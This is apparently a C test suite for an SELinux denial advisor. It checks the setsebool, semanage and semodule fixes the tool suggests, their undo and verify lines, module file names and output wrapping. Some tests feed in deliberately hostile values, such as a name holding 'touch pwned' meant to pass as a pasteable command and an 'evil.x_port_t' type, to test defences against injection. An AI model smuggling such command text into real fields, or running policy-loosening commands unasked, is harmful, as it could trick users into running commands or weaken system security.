	struct policy *p = test_open_cil("bind", path, sizeof(path));
	const unsigned char lo[4] = { 127, 0, 0, 1 }, any[4] = { 0 };
	const struct fix *fx;
	struct finding f;

	CHECK(p);
	CHECK_INT(policy_node_lookup(p, AF_INET, lo, type, sizeof(type)), 0);
	CHECK_STR(type, "lo_node_t");
	CHECK_INT(policy_node_lookup(p, AF_INET, any, type, sizeof(type)), 0);
	CHECK_STR(type, "node_t"); /* the node initial SID */
	/* node_bind on the default node type: the policy's boolean, and no port relabel */
	bind_finding(&f, "udp_socket", "node_bind", 5353, "node_t");
	CHECK_INT(recommend(p, &f, &adv), 0);
	fx = first_of(&adv, FIX_BOOLEAN);
	CHECK(fx);
	CHECK_STR(cmd_line(fx, 0), "setsebool -P web_bind_any_addr 1");
	CHECK(first_of(&adv, FIX_PORT_RELABEL) == NULL);
	CHECK(first_of(&adv, FIX_MODULE) != NULL);
	/* node_bind on lo_node_t is allowed: nothing to do */
	bind_finding(&f, "udp_socket", "node_bind", 5353, "lo_node_t");
	CHECK_INT(recommend(p, &f, &adv), 0);
	CHECK(first_of(&adv, FIX_BOOLEAN) == NULL);
	CHECK(first_of(&adv, FIX_MODULE) == NULL);
	policy_close(p);
}

/* The module file of a fix: what its printf writes and semodule -i installs, or "" */
static const char *module_file(const struct advice *a, char *out, size_t sz)
{
	const struct fix *mod = first_of(a, FIX_MODULE);

	out[0] = '\0';
	if (!mod || mod->ncmds < 2)
		return out;
	snprintf(out, sz, "%s", mod->cmds[0]->stdout_file);
	/* semodule installs the very file printf wrote */
	if (strcmp(command_argv(mod->cmds[1], 2), out))
		out[0] = '\0';
	return out;
}

static bool module_file_name_ok(const char *s)
{
	size_t n = strlen(s);

	/* semodule names the module after the file: a letter first, then [a-z0-9_-] */
	return n > 7 && n < COMMAND_FILE_LEN && !strncmp(s, "my-", 3) &&
	       !strcmp(s + n - 4, ".cil") &&
	       strspn(s, "abcdefghijklmnopqrstuvwxyz0123456789_-") == n - 4;
}

/*
 * Issue 20: one module name per access. nginx's 3000, 6379 and 11211 used to be my-nginx.cil
 * alike, and installing the second module replaced the first. Every access (source, target,
 * class, permissions) has its own name; a type name no module name may hold ("evil.x_port_t")
 * or one too long for a file name gets a hashed name that is still a plain file name.
 */
TEST(recommend_module_name_per_access)
{
	static const struct {
		unsigned int port;
		const char *ttype, *perm;
	} acc[] = {
		{ 3000, "ntop_port_t", "name_connect" },
		{ 6379, "redis_port_t", "name_connect" },
		{ 11211, "memcache_port_t", "name_connect" },
		{ 6379, "redis_port_t", "name_bind" },
		{ 4000, "evil.x_port_t", "name_connect" },
		{ 4001,
		  "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
		  "aaaaaaaaaaaaaaaaaaaaaaaaaa_port_t",
		  "name_connect" },
	};
	char path[256], names[6][COMMAND_FILE_LEN], again[COMMAND_FILE_LEN];
	struct policy *p = test_open_cil("modname", path, sizeof(path));
	struct finding f;
	size_t i, k;

	CHECK(p);
	if (!p)
		return;
	for (i = 0; i < sizeof(acc) / sizeof(acc[0]); i++) {
		port_finding(&f, acc[i].port, acc[i].ttype);
		snprintf(f.comm, sizeof(f.comm), "nginx");
		snprintf(f.perms[0], sizeof(f.perms[0]), "%s", acc[i].perm);
		CHECK_INT(recommend(p, &f, &adv), 0);
		module_file(&adv, names[i], sizeof(names[i]));
		if (!module_file_name_ok(names[i]))
			FAIL_AT("access %zu (%s): module file \"%s\"", i, acc[i].ttype, names[i]);
		for (k = 0; k < i; k++)
			if (!strcmp(names[k], names[i]))
				FAIL_AT("accesses %zu and %zu share module %s", k, i, names[i]);
		/* the same access from another process: the same module, not a second one */
		snprintf(f.comm, sizeof(f.comm), "other");
		CHECK_INT(recommend(p, &f, &adv), 0);
		CHECK_STR(module_file(&adv, again, sizeof(again)), names[i]);
	}
	CHECK_STR(names[0], "my-web_t-ntop_port_t-tcp_socket-name_connect.cil");
	CHECK_STR(names[3], "my-web_t-redis_port_t-tcp_socket-name_bind.cil");
	/* hashed: one '-', so never a spelled-out name's (four or more) */
	CHECK(!strchr(names[4] + 3, '-'));
	CHECK(!strchr(names[5] + 3, '-'));
	policy_close(p);
}

/* Undo command k of fx as the bash line a person pastes. */
static const char *undo_line(const struct fix *fx, int k)
{
	static char line[4][8192];
	static int slot;
	char *out = line[slot++ % 4];

	if (k >= fx->nundo || command_shell_line(fx->undo[k], out, sizeof(line[0])) < 0)
		return "(none)";
	return out;
}

/* Every fix that changes the system says how to check it and how to take it back: the
 * exact reverse of its commands, last first, and how long the rebuild takes.
 */
TEST(recommend_every_fix_has_verify_and_undo)
{
	char path[256], line[8192], want[1024];
	const char *local = "build/tests/policy/ports.local.undo";
	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
	const struct fix *fx;
	struct finding f;
	FILE *lf;
	int i;

	CHECK(p);
	port_finding(&f, 3001, "app_port_t");
	CHECK_INT(recommend(p, &f, &adv), 0);
	for (i = 0; i < adv.nfixes; i++) {
		fx = adv.fixes[i];
		if (fx->kind < FIX_BOOLEAN)
			continue;
		CHECK(fx->nundo > 0);
		CHECK(fx->rebuild && strstr(fx->rebuild, "targeted"));
	}
	/* the verify line names the access whole, and the policy file it was computed on */
	CHECK(adv.has_verify);
	CHECK(command_shell_line(&adv.verify, line, sizeof(line)) > 0);
	snprintf(want, sizeof(want),
		 "avcsnoop recommend --verify --policy %s --scontext system_u:system_r:web_t:s0 "
		 "--tcontext system_u:object_r:app_port_t:s0 --tclass tcp_socket --perm "
		 "name_connect --port=3001",
		 path);
	CHECK_STR(line, want);
	fx = first_of(&adv, FIX_PORT_RELABEL);
	CHECK(fx);
	CHECK_STR(cmd_line(fx, 0), "semanage port -a -t web_port_t -p tcp 3001");
	CHECK_INT(fx->nundo, 2);
	CHECK_STR(undo_line(fx, 0), "setsebool -P web_relay 0");
	CHECK_STR(undo_line(fx, 1), "semanage port -d -t web_port_t -p tcp 3001");
	fx = first_of(&adv, FIX_BOOLEAN);
	CHECK(fx);
	CHECK_STR(undo_line(fx, 0), "setsebool -P web_connect_any 0");
	fx = first_of(&adv, FIX_MODULE);
	CHECK(fx);
	CHECK_STR(undo_line(fx, 0), "semodule -r my-web_t-app_port_t-tcp_socket-name_connect");

	/* -m over a local label: undone by -m back to that label, not by -d */
	lf = fopen(local, "w");
	CHECK(lf);
	fprintf(lf, "portcon tcp 3001 system_u:object_r:app_port_t:s0\n");
	fclose(lf);
	policy_set_local_ports_file(p, local);
	CHECK_INT(recommend(p, &f, &adv), 0);
	fx = first_of(&adv, FIX_PORT_RELABEL);
	CHECK(fx);
	CHECK_STR(cmd_line(fx, 0), "semanage port -m -t web_port_t -p tcp 3001");
	CHECK_STR(undo_line(fx, 1), "semanage port -m -t app_port_t -p tcp 3001");
	unlink(local);

	/* a file context: the rule deleted with the same spec, then the files relabelled; the
	 * verify line probes the denied directory (the traced socket's parent)
	 */
	port_finding(&f, 0, "other_runtime_t");
	f.family = AVC_AF_UNIX;
	f.daddr[0] = '\0';
	snprintf(f.tclass, sizeof(f.tclass), "dir");
	snprintf(f.perms[0], sizeof(f.perms[0]), "search");
	snprintf(f.path, sizeof(f.path), "/run/back end/app.sock");
	CHECK_INT(recommend(p, &f, &adv), 0);
	fx = first_of(&adv, FIX_FCONTEXT);
	CHECK(fx);
	CHECK_INT(fx->nundo, 2);
	CHECK_STR(undo_line(fx, 0), "semanage fcontext -d -- '/run/back\\x20end(/.*)?'");
	CHECK_STR(undo_line(fx, 1), "restorecon -Rv -- '/run/back end'");
	CHECK(command_shell_line(&adv.verify, line, sizeof(line)) > 0);
	CHECK_CONTAINS(line, "--tclass dir --perm search --path '/run/back end'");
	policy_close(p);
}

/* Prose is wrapped at 100 columns, commands never; a run of spaces from the input (a name
 * holding "    touch x") at a break cannot start a line that reads as a command.
 */
TEST(advice_text_wraps_prose_not_commands)
{
	struct finding f;
	struct fix *fx;
	char *buf = NULL, *line, *save = NULL;
	size_t len = 0;
	FILE *mem;
	int i, cmd_lines = 0;

	memset(&f, 0, sizeof(f));
	advice_start(&adv);
	adv.summary = "SELinux is preventing nginx from a thing";
	fx = hand_fix(&adv, FIX_BOOLEAN);
	CHECK(fx);
	/* "If " and 13 words end at column 94, "abcdef" at 100: the four spaces of a hostile
	 * name start where the line must break
	 */
	for (i = 0; i < 13; i++)
		arena_appendf(&adv.arena, &fx->if_text, "word%02d ", i);
	arena_appendf(&adv.arena, &fx->if_text, "abcdef    touch pwned and a tail of words");
	CHECK(fix_add_cmd(&adv.arena, fx, "setsebool"));
	for (i = 0; i < 12; i++)
		command_arg(fx->cmds[0], "a-long-argument");
	mem = open_memstream(&buf, &len);
	CHECK(mem);
	advice_print_text(mem, &f, &adv);
	fclose(mem);
	if (getenv("SHOW_WRAP"))
		fprintf(stderr, "%s", buf);
	for (line = strtok_r(buf, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		if (!strncmp(line, "    ", 4)) {
			/* the one command line, whole (about 200 columns) */
			if (strncmp(line, "    setsebool a-long-argument", 29))
				FAIL_AT("an indented line that is no command: \"%s\"", line);
			CHECK(strlen(line) > 180);
			cmd_lines++;
			continue;
		}
		CHECK(strlen(line) <= 100);
	}
	CHECK_INT(cmd_lines, 1);
	free(buf);
}

/* Issue 25: advice read in ten seconds. The reasoning behind a fix's rank ("Why here") is
 * printed only in the long form (recommend --long); what to paste, what it opens, Verify and
 * Undo are there either way.
 */
TEST(advice_text_short_unless_long)
{
	struct finding f;
	struct fix *fx;
	char *buf = NULL;
	size_t len = 0;
	FILE *mem;
	int pass;

	memset(&f, 0, sizeof(f));
	advice_start(&adv);
	adv.summary = "SELinux is preventing nginx from a thing";
	fx = hand_fix(&adv, FIX_BOOLEAN);
	CHECK(fx);
	fx->if_text = "If you want it";
	fx->grant = "opens 3 permissions to web_t";
	fx->why = "narrowest of 2 booleans";
	CHECK(fix_add_cmd(&adv.arena, fx, "setsebool"));
	command_arg(fx->cmds[0], "-P");
	command_arg(fx->cmds[0], "web_relay");
	command_arg(fx->cmds[0], "1");
	for (pass = 0; pass < 2; pass++) {
		advice_text_long(pass == 1);
		mem = open_memstream(&buf, &len);
		CHECK(mem);
		advice_print_text(mem, &f, &adv);
		fclose(mem);
		CHECK_CONTAINS(buf, "It grants: opens 3 permissions to web_t.");
		CHECK_CONTAINS(buf, "    setsebool -P web_relay 1\n");
		if (pass == 0)
			CHECK(!strstr(buf, "Why here"));
		else
			CHECK_CONTAINS(buf, "  Why here: narrowest of 2 booleans.");
		free(buf);
		buf = NULL;
	}
	advice_text_long(false);
}

/* Issue 24: an advice is built in an arena the size of its texts; one that does not fit its
 * cap is refused whole (a summary that says so, no fix, no command), never cut.
 */
TEST(recommend_advice_past_its_arena_is_refused_whole)
{
	char path[256];
	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
	struct finding f;
	size_t used;

	CHECK(p);
	port_finding(&f, 3001, "app_port_t");
	f.hidden = true; /* a dontaudit note and its commands too: more than 4 KiB */
	f.verdict = VERDICT_SELINUX_HIDDEN;
	advice_free(&adv);
	CHECK_INT(recommend(p, &f, &adv), 0);
	used = arena_used(&adv.arena);
	CHECK(used > 4096 && used < ADVICE_ARENA_CAP);
	CHECK(adv.nfixes >= 4 && !adv.refused && adv.has_verify);
	CHECK(first_of(&adv, FIX_HIDDEN_NOTE) && first_of(&adv, FIX_MODULE));
	/* the same advice with room for 4 KiB only */
	advice_free(&adv);
	arena_init(&adv.arena, 4096);
	CHECK_INT(recommend(p, &f, &adv), -ENOSPC);
	CHECK(adv.refused);
	CHECK_INT(adv.nfixes, 0);
	CHECK(!adv.has_verify);
	CHECK_CONTAINS(adv.summary, "did not fit in 4096 bytes");
	/* its cap stays with it; advice_free gives everything back */
	CHECK(adv.arena.cap == 4096);
	advice_free(&adv);
	CHECK(!adv.arena.head && !adv.arena.cap);
	CHECK_INT(recommend(p, &f, &adv), 0);
	CHECK(!adv.refused && adv.arena.cap == ADVICE_ARENA_CAP);
	policy_close(p);
}
